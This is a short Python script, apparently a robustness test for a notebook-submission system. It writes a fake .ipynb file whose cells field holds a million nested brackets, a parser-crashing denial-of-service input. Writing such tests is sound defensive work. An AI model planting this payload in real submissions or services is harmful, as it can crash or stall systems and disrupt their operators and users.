"""tries: hand in a notebook of lists in lists in lists

after: folder
"""

with open("speech_commands.ipynb", "w") as file:
    file.write('{"nbformat": 4, "cells": ' + "[" * 1_000_000 + "]" * 1_000_000 + "}")
